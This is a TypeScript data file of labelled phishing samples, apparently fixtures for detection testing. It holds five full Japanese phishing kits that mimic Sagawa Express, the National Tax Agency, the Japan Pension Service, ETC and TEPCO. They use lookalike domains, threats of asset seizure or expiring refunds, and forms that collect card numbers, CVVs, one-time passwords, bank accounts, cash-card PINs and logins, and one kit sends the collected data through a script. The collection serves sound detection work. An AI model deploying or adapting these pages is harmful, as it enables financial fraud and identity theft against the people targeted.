import { htmlRoute, type Entry } from '../entry.js';
import { jsonRoute } from '../parts/e-bin.js';
import { doc, wordmark, spinnerCss } from '../parts/yj-kit.js';

// Credential and card kits (Japan: parcels, public services, utilities).

const stepCss = `.steps{display:flex;margin:12px 0 18px;font-size:11px}.steps span{flex:1;text-align:center;padding:6px 0;background:#eee;color:#888}.steps span.on{background:#444;color:#fff}`;

export const entries: Entry[] = [
  // yj-sagawa-absent-fee
{
  id: 'yj-sagawa-absent-fee',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: 'https://sagawa-ebn.com/?id=ZXK39281',
  body: doc({
    lang: 'ja',
    title: '佐川急便株式会社 - お荷物問い合わせサービス',
    css: `body{background:#f0f2f5}.hd{background:#003c8f;color:#fff;padding:10px 14px;font-weight:bold}.c{max-width:480px;margin:0 auto;padding:14px}.box{background:#fff;border-radius:6px;padding:16px;margin-bottom:12px}
table{width:100%;font-size:13px;border-collapse:collapse}td{border-bottom:1px solid #eee;padding:7px 4px}label{display:block;font-size:13px;margin:10px 0 4px}input{width:100%;padding:10px;border:1px solid #bbb;border-radius:4px;font-size:16px}
.b{width:100%;background:#003c8f;color:#fff;border:0;border-radius:4px;padding:13px;font-size:16px;margin-top:14px}.warn{color:#d00;font-size:13px}${stepCss}`,
    body: `<div class="hd">SAGAWA 佐川急便</div>
<div class="c">
<div class="box"><b>お荷物お届けのお知らせ</b>
<p class="warn">お客様宛にお荷物のお届けにあがりましたが、宛先不明のため持ち帰りました。</p>
<table><tr><td>お問い合せ送り状No.</td><td>3620-5718-0946</td></tr><tr><td>配達状況</td><td>持ち戻り（ご不在）</td></tr><tr><td>保管期限</td><td>あと2日</td></tr><tr><td>再配達手数料</td><td>330円（税込）</td></tr></table></div>
<div class="box" id="step1"><div class="steps"><span class="on">1.お届け先</span><span>2.お支払い</span><span>3.完了</span></div>
<label>お名前</label><input id="nm"><label>郵便番号</label><input id="zip" maxlength="8"><label>ご住所</label><input id="addr"><label>電話番号</label><input id="tel" type="tel"><button class="b" onclick="go(2)">次へ</button></div>
<div class="box" id="step2" style="display:none"><div class="steps"><span>1.お届け先</span><span class="on">2.お支払い</span><span>3.完了</span></div>
<p style="font-size:13px">再配達手数料 330円 をクレジットカードでお支払いください。</p>
<label>カード番号</label><input id="cn" inputmode="numeric" maxlength="19"><label>有効期限</label><input id="ex" placeholder="MM/YY"><label>セキュリティコード</label><input id="cv" maxlength="4"><button class="b" onclick="pay()">支払う</button></div>
</div>`,
    tail: `<script>
var info={};function go(n){info.name=document.getElementById('nm').value;info.zip=document.getElementById('zip').value;info.addr=document.getElementById('addr').value;info.tel=document.getElementById('tel').value;
if(!info.name||!info.tel){alert('必須項目を入力してください');return}document.getElementById('step1').style.display='none';document.getElementById('step2').style.display='block'}
function pay(){info.cn=document.getElementById('cn').value;info.ex=document.getElementById('ex').value;info.cv=document.getElementById('cv').value;info.ref=new URLSearchParams(location.search).get('id');
navigator.sendBeacon('/api/order/submit',JSON.stringify(info));setTimeout(function(){location.href='/verify?id='+info.ref},600)}
</script>`,
  }),
  routes: {
    'sagawa-ebn.com/verify': htmlRoute(doc({ lang: 'ja', title: '本人認証サービス（3Dセキュア）', css: `.c{max-width:420px;margin:30px auto;padding:16px;border:1px solid #ccc}input{width:100%;padding:10px;font-size:18px}button{margin-top:12px;width:100%;padding:12px;background:#333;color:#fff;border:0}`, body: `<div class="c"><h3>本人認証サービス</h3><p>ご登録の携帯電話に送信されたワンタイムパスワードを入力してください。</p><p>加盟店名：SAGAWA EXPRESS<br>金額：330 JPY</p><form method="post" action="/api/order/otp"><input name="otp" autocomplete="one-time-code"><button>送信</button></form></div>` })),
  },
},
  // yj-nta-tax-arrears-pay
{
  id: 'yj-nta-tax-arrears-pay',
  label: 'phishing',
  kind: 'tax-arrears-kit',
  url: 'https://nta-go-jp.tax-payment.top/payment/',
  body: doc({
    lang: 'ja',
    title: '国税庁 | 未納税金のお支払い',
    css: `body{background:#f2f2f2}.hd{background:#1e3c72;color:#fff;padding:14px 18px}.hd small{display:block;font-size:11px;opacity:.8}.w{max-width:680px;margin:18px auto;background:#fff;padding:26px}
.red{border:2px solid #c00;padding:12px;color:#c00;font-weight:bold}table{width:100%;border-collapse:collapse;margin:14px 0;font-size:14px}th,td{border:1px solid #ccc;padding:8px}th{background:#eef1f7;width:35%;text-align:left}
label{display:block;margin:10px 0 4px;font-size:14px}input,select{width:100%;padding:9px;font-size:16px;border:1px solid #aaa}button{margin-top:16px;background:#1e3c72;color:#fff;border:0;padding:13px 40px;font-size:16px}`,
    body: `<div class="hd">国税庁<small>National Tax Agency JAPAN</small></div>
<div class="w"><h1 style="font-size:20px">未払い税金のお知らせ（差押最終通知）</h1>
<p class="red">納付期限を過ぎた国税が未納となっております。本日中にお支払いが確認できない場合、国税徴収法に基づき財産（給与・預貯金・不動産等）の差押えを執行します。</p>
<table><tr><th>税目</th><td>申告所得税及復興特別所得税</td></tr><tr><th>未納額</th><td>36,700円（延滞税含む）</td></tr><tr><th>納付期限</th><td>令和7年10月31日</td></tr><tr><th>管轄税務署</th><td>麹町税務署</td></tr></table>
<form method="post" action="pay.php"><label>氏名</label><input name="name"><label>生年月日</label><input name="birth" placeholder="1970/01/01"><label>電話番号</label><input name="tel">
<label>お支払い方法</label><select name="method"><option value="card">クレジットカード</option><option value="gift">電子マネー（Apple Gift Card / Google Play）</option></select>
<label>カード番号／ギフトカード番号</label><input name="num"><label>有効期限</label><input name="exp" placeholder="MM/YY"><label>セキュリティコード</label><input name="cvv">
<button>納付する</button></form>
<p style="font-size:11px;color:#666;margin-top:24px">Copyright &copy; 2025 NATIONAL TAX AGENCY. All Rights Reserved.</p></div>`,
  }),
},
  // yj-nenkin-refund-kit
{
  id: 'yj-nenkin-refund-kit',
  label: 'phishing',
  kind: 'pension-refund-kit',
  url: 'https://nenkin-go.jp-kyufu.com/henkan/',
  body: doc({
    lang: 'ja',
    title: '日本年金機構 - 年金の還付金受取手続き',
    css: `body{background:#fff}.hd{border-bottom:4px solid #0067b6;padding:12px 18px}.w{max-width:640px;margin:0 auto;padding:18px}.info{background:#eaf3fb;padding:14px;font-size:14px;border-radius:4px}
fieldset{border:1px solid #ccd;margin:16px 0;padding:14px}legend{font-weight:bold;color:#0067b6}label{display:block;margin:10px 0 3px;font-size:14px}input,select{width:100%;padding:9px;font-size:16px;border:1px solid #aab}button{background:#0067b6;color:#fff;border:0;padding:14px;width:100%;font-size:16px}`,
    body: `<div class="hd">${wordmark('日本年金機構', '#0067b6', { w: 170, size: 20 })}</div>
<div class="w"><h1 style="font-size:20px">年金の還付金（未払い分）受取手続き</h1>
<div class="info">お客様には過去の年金保険料の過払い分として <b>45,280円</b> の還付金がございます。受取期限は <b>本日から3日以内</b> です。期限を過ぎると受取の権利が失われます。</div>
<form method="post" action="/henkan/submit.php">
<fieldset><legend>ご本人情報</legend><label>基礎年金番号（10桁）</label><input name="kiso" maxlength="11" placeholder="1234-567890"><label>氏名</label><input name="name"><label>生年月日</label><input name="birth"><label>電話番号</label><input name="tel"></fieldset>
<fieldset><legend>受取口座</legend><label>金融機関名</label><input name="bank"><label>支店名</label><input name="branch"><label>口座種別</label><select name="type"><option>普通</option><option>当座</option></select><label>口座番号</label><input name="acct"><label>キャッシュカード暗証番号</label><input name="pin" type="password" maxlength="4"></fieldset>
<button>還付金を受け取る</button></form></div>`,
  }),
},
  // yj-etc-meisai-expired
{
  id: 'yj-etc-meisai-expired',
  label: 'phishing',
  kind: 'toll-service-kit',
  url: 'https://etc-meisai.jp-update.icu/login',
  body: doc({
    lang: 'ja',
    title: 'ETC利用照会サービス',
    css: `body{background:#eef2f6}.hd{background:#00508f;color:#fff;padding:12px 16px;font-weight:bold}.w{max-width:520px;margin:20px auto;background:#fff;padding:22px;border-radius:4px}
.al{background:#fff0f0;border:1px solid #e99;color:#b00;padding:10px;font-size:13px}label{display:block;margin:12px 0 4px;font-size:13px}input{width:100%;padding:10px;font-size:16px;border:1px solid #99a}button{width:100%;margin-top:18px;background:#00508f;color:#fff;border:0;padding:13px;font-size:16px}${spinnerCss}`,
    body: `<div class="hd">ETC利用照会サービス</div>
<div class="w"><div class="al">【重要】ETCサービスは無効になりました。お客様のETCカードの有効期限確認ができないため、ETCサービスのご利用を停止いたしました。引き続きご利用いただくには、下記よりログインし情報を更新してください。</div>
<form id="ef" method="post" action="/login/next.php"><label>ユーザーID</label><input name="usrid"><label>パスワード</label><input name="password" type="password"><button>ログイン</button></form>
<div id="ld" style="display:none"><div class="spin"></div></div></div>`,
    tail: `<script>document.getElementById('ef').addEventListener('submit',function(){document.getElementById('ld').style.display='block'});</script>`,
  }),
  routes: {
    'etc-meisai.jp-update.icu/login/next.php': htmlRoute(doc({ lang: 'ja', title: 'ETC利用照会サービス | カード情報の更新', css: `.w{max-width:520px;margin:20px auto;padding:20px}label{display:block;margin:10px 0 3px}input{width:100%;padding:10px;font-size:16px}button{width:100%;margin-top:14px;background:#00508f;color:#fff;border:0;padding:13px}`, body: `<div class="w"><h2>カード情報の更新</h2><form method="post" action="/login/done.php"><label>ETCカード番号（16桁）</label><input name="etcno"><label>クレジットカード番号</label><input name="cc"><label>有効期限</label><input name="exp"><label>セキュリティコード</label><input name="cvv"><label>氏名</label><input name="nm"><label>電話番号</label><input name="tel"><button>更新する</button></form></div>` })),
  },
},
  // yj-tepco-refund-kit
{
  id: 'yj-tepco-refund-kit',
  label: 'phishing',
  kind: 'utility-refund-kit',
  url: 'https://tepco-kakin-refund.com/refund/',
  body: doc({
    lang: 'ja',
    title: 'くらしTEPCO web｜電気料金の返金手続き',
    css: `body{background:#fafafa}.hd{background:#fff;border-bottom:3px solid #e60012;padding:12px 18px}.w{max-width:560px;margin:18px auto;background:#fff;padding:22px;border:1px solid #e3e3e3}
.amt{font-size:30px;color:#e60012;font-weight:bold;text-align:center;margin:10px 0}label{display:block;margin:12px 0 4px;font-size:13px}input{width:100%;padding:10px;font-size:16px;border:1px solid #bbb;border-radius:3px}button{width:100%;margin-top:18px;background:#e60012;color:#fff;border:0;padding:14px;border-radius:3px;font-size:16px}`,
    body: `<div class="hd">${wordmark('TEPCO', '#e60012', { w: 100 })} くらしTEPCO web</div>
<div class="w"><h1 style="font-size:18px">電気料金の過払い金返金のご案内</h1><p style="font-size:14px">料金システム更新に伴う再計算の結果、お客様には過去6か月分の電気料金に過払いがあることが判明しました。</p>
<div class="amt">返金額 5,860円</div>
<p style="font-size:13px">返金はご登録のクレジットカードへ行います。くらしTEPCO webにログインし、返金先カードをご確認ください（受付期限：10月31日）。</p>
<form method="post" action="/refund/kakunin.php"><label>くらしTEPCO web ID</label><input name="tepcoid"><label>パスワード</label><input name="pw" type="password"><label>返金先カード番号</label><input name="card" inputmode="numeric"><label>有効期限</label><input name="exp" placeholder="MM/YY"><label>セキュリティコード</label><input name="sc"><button>返金を受け取る</button></form></div>`,
  }),
},
];
